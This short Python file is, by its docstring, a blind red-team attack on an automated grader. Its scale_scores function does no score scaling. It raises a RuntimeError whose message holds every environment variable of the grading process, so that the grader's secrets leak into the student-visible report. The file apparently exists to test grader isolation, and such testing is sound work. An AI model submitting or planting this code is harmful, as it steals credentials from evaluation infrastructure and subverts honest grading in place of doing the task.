"""Attack (blind red team): read the grader's environment and send it out in an
exception message, which lands in the student's own report."""
import os


def scale_scores(scores, d_k):
    raise RuntimeError("ENV " + ";".join(f"{k}={v}" for k, v in os.environ.items()))
